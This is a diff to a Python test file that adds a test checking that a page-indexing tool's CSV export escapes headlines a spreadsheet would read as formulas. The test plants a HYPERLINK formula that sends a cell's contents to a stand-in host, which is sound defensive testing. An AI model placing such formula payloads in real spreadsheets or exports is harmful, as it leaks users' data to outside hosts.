@@ -6,6 +6,7 @@ clipboard) escape: shown raw, the terminal would obey them.
 
 from __future__ import annotations
 
+import json
 import shutil
 from pathlib import Path
 
@@ -112,3 +113,25 @@ def test_links_out_of_the_roots_are_not_followed_unless_asked(tmp_path: Path) ->
     assert result.exit_code == 0 and "2 added" in result.output, result.output
     stats = runner.invoke(cli, ["stats", "--index", str(index)], catch_exceptions=False).output
     assert "are followed" in stats
+
+
+def test_a_csv_export_never_writes_a_cell_a_spreadsheet_takes_for_a_formula(tmp_path: Path) -> None:
+    """Review s33 U14 (CSV injection): a saved page's headline is anyone's text; a cell that starts
+    with = + - @ is a formula in a spreadsheet, so it is written with a leading apostrophe.
+    The page is made up here (the sample's text under a headline of our own)."""
+    import csv
+    import io
+
+    folder = tmp_path / "x"
+    folder.mkdir()
+    body = ARTICLE.read_text(encoding="utf-8").split("\n", 2)[2]
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click") made-up headline'
+    (folder / "formula.txt").write_text(f"{formula}\n{body}", encoding="utf-8")
+    (folder / "minus.txt").write_text(f"-5 degrees and falling in a made-up cold snap\n{body}", encoding="utf-8")
+    update_index(tmp_path / "ix", [folder], workers=1)
+    result = CliRunner().invoke(cli, ["search", "bridge", "-f", "csv", "--index", str(tmp_path / "ix")])
+    assert result.exit_code == 0, result.output
+    titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(result.stdout)))
+    assert titles == ["'-5 degrees and falling in a made-up cold snap", "'" + formula]
+    as_json = CliRunner().invoke(cli, ["search", "bridge", "--json", "--index", str(tmp_path / "ix")])
+    assert formula in [h["title"] for h in json.loads(as_json.stdout)["hits"]]  # JSON is data: as written
